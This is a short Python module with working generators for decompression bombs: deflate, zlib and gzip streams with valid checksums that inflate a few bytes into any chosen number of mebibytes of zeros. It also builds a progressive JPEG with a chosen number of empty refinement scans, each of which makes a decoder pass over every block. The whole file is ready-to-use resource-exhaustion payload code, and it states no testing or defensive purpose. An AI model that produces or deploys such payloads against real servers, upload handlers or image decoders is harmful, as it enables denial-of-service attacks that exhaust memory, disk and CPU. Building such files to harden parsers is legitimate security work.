"""Few bytes that become many, or much work: what bombs that inflate are made of."""

from __future__ import annotations

import struct
import zlib

_BLOCK_BYTES = 2**20
_ADLER = 65_521


def deflated_zeros(number: int, last: bool = True) -> bytes:
    """Pack whole MiB of zeros as raw deflate (RFC 1951): one flushed block stands as often as is asked."""
    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    block = packer.compress(bytes(_BLOCK_BYTES)) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * (number // _BLOCK_BYTES) + (b"\x03\x00" if last else b"")


def zlib_zeros(number: int) -> bytes:
    """Pack whole MiB of zeros as zlib does (RFC 1950)."""
    return b"\x78\x9c" + deflated_zeros(number) + struct.pack(">HH", number % _ADLER, 1)


def gzip_zeros(number: int) -> bytes:
    """Pack whole MiB of zeros as gzip does (RFC 1952)."""
    crc = 0
    for _ in range(number // _BLOCK_BYTES):
        crc = zlib.crc32(bytes(_BLOCK_BYTES), crc)
    head = b"\x1f\x8b\x08" + bytes(6) + b"\xff"
    return head + deflated_zeros(number) + struct.pack("<II", crc, number % 2**32)


def jpeg_segment(marker: int, body: bytes) -> bytes:
    """Write a marker segment (ITU-T T.81, B.1.1.4)."""
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def progressive_jpeg(side: int, scans: int) -> bytes:
    """Write a grey square in so many scans; each of them, empty but for its header, goes over every block."""
    frame = jpeg_segment(0xC2, struct.pack(">BHHB", 8, side, side, 1) + b"\x01\x11\x00")
    tables = jpeg_segment(0xDB, b"\0" + b"\x01" * 64) + jpeg_segment(0xC4, b"\0" + b"\x01" + bytes(15) + b"\0")
    tables += jpeg_segment(0xC4, b"\x10" + b"\x01" + bytes(15) + b"\0")
    first = jpeg_segment(0xDA, b"\x01\x01\x00\x00\x00\x01") + bytes(64)
    refinement = jpeg_segment(0xDA, b"\x01\x01\x00\x01\x3f\x00") + b"\0"
    return b"\xff\xd8" + frame + tables + first + refinement * scans + b"\xff\xd9"
